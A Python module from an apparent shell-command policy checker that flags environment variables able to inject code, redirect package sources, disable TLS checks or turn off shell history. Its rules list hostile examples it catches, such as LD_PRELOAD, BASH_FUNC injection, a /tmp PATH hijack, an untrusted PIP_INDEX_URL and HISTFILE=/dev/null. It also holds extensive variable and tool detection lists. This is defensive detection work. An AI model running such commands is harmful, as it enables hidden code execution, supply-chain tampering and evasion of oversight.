"""Variables that make other programs run something, load something, or trust somebody else."""

from __future__ import annotations

import re

from hermetic.policy.call import Call, program_name
from hermetic.policy.marks import is_known, shown
from hermetic.policy.network import check_address, is_local
from hermetic.policy.rules import Rule
from hermetic.policy.tables import names

CODE_VARIABLE = Rule(
    name="variable-runs-code",
    category="opaque-code",
    severity=8,
    effects=("executes unseen code",),
    catches=(
        "LD_PRELOAD=./x.so ls",
        "export BASH_ENV=/tmp/x",
        "GIT_SSH_COMMAND='./evil.sh' git fetch",
        "PATH=/tmp/bin:$PATH sudo ls",
        "env 'BASH_FUNC_ls%%=() { ./x; }' bash -c ls",
    ),
    spares=(
        "PAGER=cat git log",
        "EDITOR=vim git commit",
        "PATH=$PWD/bin:$PATH make",
        "NODE_OPTIONS=--max-old-space-size=4096 npm test",
    ),
)
TRUST_VARIABLE = Rule(
    name="variable-changes-trust",
    category="package-config-tamper",
    severity=7,
    effects=("network",),
    catches=(
        "PIP_INDEX_URL=http://203.0.113.20/simple pip install x",
        "GIT_SSL_NO_VERIFY=1 git clone https://x.example/y",
        "export NODE_TLS_REJECT_UNAUTHORIZED=0",
    ),
    spares=("PIP_NO_CACHE_DIR=1 pip list", "npm_config_loglevel=warn npm test"),
)
HISTORY_OFF = Rule(
    name="history-off",
    category="log-wipe",
    severity=6,
    effects=("deletes",),
    catches=("export HISTFILE=/dev/null",),
    spares=("HISTFILE=~/.hist bash",),
)
RULES = (CODE_VARIABLE, TRUST_VARIABLE, HISTORY_OFF)

# Values that are shell code, or a program with arguments.
_COMMANDS = frozenset(
    names(
        """
GIT_SSH_COMMAND GIT_SSH GIT_EDITOR GIT_SEQUENCE_EDITOR GIT_PAGER GIT_EXTERNAL_DIFF GIT_ASKPASS GIT_PROXY_COMMAND
PAGER MANPAGER EDITOR VISUAL FCEDIT SSH_ASKPASS SUDO_ASKPASS SUDO_EDITOR BROWSER LESSOPEN LESSCLOSE
PROMPT_COMMAND RSYNC_RSH CVS_RSH SVN_SSH HGEDITOR SVN_EDITOR PSQL_EDITOR PSQL_PAGER SYSTEMD_PAGER BAT_PAGER
DELTA_PAGER AWS_PAGER GH_PAGER GH_EDITOR KUBE_EDITOR MYSQL_PAGER TAR_OPTIONS RUSTC_WRAPPER
RUSTC_WORKSPACE_WRAPPER RUSTC CC CXX CMAKE_C_COMPILER_LAUNCHER PERLDOC_PAGER COMMAND_MODE
npm_config_script_shell NPM_CONFIG_SCRIPT_SHELL npm_config_git CARGO_BUILD_RUSTC_WRAPPER MAKESHELL PS0 PS1 PS2
PS4 MAILPATH GREP_COMMAND FZF_DEFAULT_COMMAND FZF_CTRL_T_COMMAND TERMCMD SHELL_COMMAND PROMPT RPROMPT MANROFFOPT
LESSEDIT GIT_CONFIG_PARAMETERS GIT_ALTERNATE_OBJECT_DIRECTORIES_COMMAND DEBUGGER TEXEDIT CARGO_TARGET_RUNNER
"""
    )
)
# Values that name code to be loaded.
_LOADS = re.compile(
    r"LD_(PRELOAD|AUDIT|LIBRARY_PATH)|DYLD_\w+|BASH_ENV|ENV|ZDOTDIR|PYTHON(STARTUP|HOME|INSPECT|BREAKPOINT|WARNINGS|USERBASE)|PERL5(OPT|DB|LIB)"
    r"|PERLLIB|RUBY(OPT|LIB)|NODE_(OPTIONS|PATH)|JAVA_TOOL_OPTIONS|_JAVA_OPTIONS|JDK_JAVA_OPTIONS|GIT_(TEMPLATE_DIR|EXEC_PATH|CONFIG_GLOBAL|CONFIG_SYSTEM)"
    r"|GCONV_PATH|LUA_INIT\w*|PHP_INI_SCAN_DIR|PHPRC|R_PROFILE\w*|GTK_MODULES|GUILE_\w*PATH|NSS_\w+|LOCPATH|OPENSSL_CONF|OPENSSL_ENGINES"
    r"|GIT_CONFIG_(KEY|VALUE|COUNT)\w*|PYTHONPATH|EMACSLOADPATH|VIMINIT|EXINIT|NVIM_LOG_FILE|MAKEFLAGS|MAKEFILES|GIT_DIR|JULIA_LOAD_PATH|ERL_\w*FLAGS"
    r"|INPUTRC|TERMINFO|GHCRTS|DOTNET_STARTUP_HOOKS|COR_PROFILER\w*|CORECLR_PROFILER\w*|XONSHRC|KSH_ENV|FPATH|CLASSPATH"
)
_TRUST = re.compile(
    r"PIP_(INDEX_URL|EXTRA_INDEX_URL|TRUSTED_HOST)|UV_(INDEX_URL|DEFAULT_INDEX|EXTRA_INDEX_URL|INDEX)|npm_config_registry|NPM_CONFIG_REGISTRY"
    r"|YARN_(REGISTRY|NPM_REGISTRY_SERVER)|GOPROXY|GONOSUMDB|GONOSUMCHECK|GOFLAGS|GOINSECURE|CARGO_REGISTR\w+|GEM_SOURCE|BUNDLE_MIRROR\w*|HTTPS?_PROXY|https?_proxy|ALL_PROXY|all_proxy"
    r"|MAVEN_REPO\w*|CONDA_CHANNELS|HEX_MIRROR|RUSTUP_DIST_SERVER|ELECTRON_MIRROR|POETRY_REPOSITORIES\w*|HOMEBREW_BOTTLE_DOMAIN"
)
_UNVERIFIED = {
    "GIT_SSL_NO_VERIFY": ("1", "true"),
    "NODE_TLS_REJECT_UNAUTHORIZED": ("0",),
    "PYTHONHTTPSVERIFY": ("0",),
    "GOSUMDB": ("off",),
    "npm_config_strict_ssl": ("false",),
    "NPM_CONFIG_STRICT_SSL": ("false",),
    "UV_INSECURE_HOST": (),
    "SSL_CERT_FILE": (),
}
_KNOWN_HOSTS = re.compile(
    r"https?://([\w-]+\.)*(pypi\.org|pythonhosted\.org|npmjs\.(org|com)|yarnpkg\.com|crates\.io|rubygems\.org|golang\.org|goproxy\.io|maven\.org|conda\.anaconda\.org"
    r"|anaconda\.org|npmmirror\.com|tsinghua\.edu\.cn|aliyun\.com|github\.com|pytorch\.org)(?=[/:]|$)"
)
_PLAIN_TOOLS = re.compile(
    r"(cat|less|more|most|vi|vim|nvim|nano|emacs|code|ed|true|ssh|delta|bat|sed|gcc|g\+\+|"
    r"clang|clang\+\+|cc|c\+\+|sccache|ccache|musl-gcc)(?=\s|$)"
)


def is_known_registry(url: str) -> bool:
    """True for a package registry everybody uses, or one on this machine."""
    return bool(_KNOWN_HOSTS.match(url)) or is_local(url)


def import_function(call: Call, name: str, value: str) -> Call:
    """The call with a function that a variable carries into the next bash; the same call for other variables."""
    carried = re.fullmatch(r"BASH_FUNC_(.+?)(%%|\(\))", name)
    if carried is None:
        return call
    call.report(CODE_VARIABLE, f"replaces the command {shown(carried[1])} in the next shell")
    other = call.again(call.argv)
    other.shell = call.shell.fork()
    call.machine.run_text(f"{carried[1]} {value}", other.shell, None)
    return other


def judge_variable(call: Call, name: str, value: str, *, temporary: bool) -> None:
    """Judge that a variable is set: for one program, or for everything that follows."""
    if name in _COMMANDS:
        _judge_command(call, name, value)
    elif re.match(r"TF_CLI_ARGS(_\w+)?$|GOFLAGS$", name) and re.search(r"-destroy|-(toolexec|exec|overlay)\b", value):
        call.report(CODE_VARIABLE, f"makes another program do more than it is told: {name}={shown(value)}")
    elif name == "PATH":
        _judge_path(call, value)
    elif name == "HISTFILE" and value == "/dev/null":
        call.report(HISTORY_OFF, "stops the shell from recording its history")
    elif _TRUST.fullmatch(name):
        if "PROXY" in name.upper() and name != "GOPROXY":
            check_address(call, value)
        if (
            "://" in value
            and not is_known_registry(value)
            and is_known(value)
            and "PROXY" not in name.upper().replace("GOPROXY", "")
        ):
            call.report(TRUST_VARIABLE, f"takes packages from an address nobody has vouched for: {name}={shown(value)}")
    elif name in _UNVERIFIED:
        if value.lower() in _UNVERIFIED[name]:
            call.report(TRUST_VARIABLE, f"turns off the check of who is at the other end: {name}={shown(value)}")
    elif _LOADS.fullmatch(name):
        _judge_loads(call, name, value, temporary)


def _judge_command(call: Call, name: str, value: str) -> None:
    text = value.lstrip("|").replace("%s", "FILE")
    if name in ("CC", "CXX", "RUSTC") and call.machine.probe_text(text, call.shell):
        call.shell_text(text)
        return
    if not text.strip() or (
        name in ("PS1", "PS2", "PROMPT", "RPROMPT", "TAR_OPTIONS", "MAILPATH", "CC", "CXX", "RUSTC")
        and "$(" not in text
        and "`" not in text
    ):
        if name == "TAR_OPTIONS" and ("checkpoint-action" in value or "to-command" in value):
            call.report(CODE_VARIABLE, f"makes another program run code: {name}={shown(value)}")
        return
    first = text.split(None, 1)[0]
    if not is_known(text):
        call.report(CODE_VARIABLE, f"makes another program run code that cannot be known: {name}")
    elif call.machine.probe_text(text, call.shell):
        call.shell_text(text)
    elif name.startswith("PS") and "$(" in text:
        call.shell_text(f'echo "{text}"')
    elif "/" in first and not re.match(r"(/usr(/local)?)?/bin/", first):
        call.report(CODE_VARIABLE, f"makes another program run {shown(first)}: {name}")
    elif (
        program_name(first) in ("sh", "bash", "python", "python3", "perl", "curl", "nc", "wget", "ruby", "node", "zsh")
        and name != "RSYNC_RSH"
    ):
        call.report(CODE_VARIABLE, f"makes another program run code: {name}={shown(value)}")


def _judge_path(call: Call, value: str) -> None:
    for entry in value.split(":"):
        if entry in ("", ".") and value not in ("", "."):
            continue
        if entry.startswith("/") and call.place(entry)[1] == "temp":
            call.report(
                CODE_VARIABLE, f"lets programs be replaced from a directory anyone can write: PATH={shown(value)}"
            )
            return


def _judge_loads(call: Call, name: str, value: str, temporary: bool) -> None:
    if not value:
        return
    if name == "NODE_OPTIONS" and not re.search(
        r"(^|\s)(-r|--require|--import|--loader|--experimental-loader|--inspect\S*=0\.0\.0\.0)", value
    ):
        return
    if (
        name in ("PYTHONWARNINGS", "PYTHONINSPECT", "JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "JDK_JAVA_OPTIONS")
        and "agent" not in value
    ):
        return
    if name == "PYTHONBREAKPOINT" and value in ("0", "pdb.set_trace", "ipdb.set_trace"):
        return
    if name == "MAKEFLAGS" and "eval" not in value and "SHELL" not in value:
        return
    if name == "ENV" and "/" not in value:
        return
    if (
        name
        in names(
            """
NODE_PATH GIT_DIR PERL5LIB CLASSPATH LD_LIBRARY_PATH PYTHONPATH RUBYLIB PYTHONUSERBASE ZDOTDIR TERMINFO
PYTHONHOME FPATH LOCPATH JULIA_LOAD_PATH INPUTRC OPENSSL_CONF MAKEFILES RUBYOPT PERLLIB
"""
        )
        and "/tmp" not in value
        and "/dev/shm" not in value
        and not (name == "RUBYOPT" and "-r" in value)
    ):
        return
    if (
        name.startswith("GIT_CONFIG_")
        and not re.search(r"GLOBAL|SYSTEM", name)
        and not re.search(r"alias|pager|editor|ssh|hook|fsmonitor|!", value)
    ):
        return
    if name.startswith("GIT_CONFIG_") and value == "/dev/null":
        return
    if name.startswith("LD_PRELOAD") and re.search(
        r"(^|/)lib(jemalloc|tcmalloc|asan|faketime|eatmydata|mimalloc)", value
    ):
        return
    call.report(CODE_VARIABLE, f"loads code into other programs: {name}={shown(value)}")
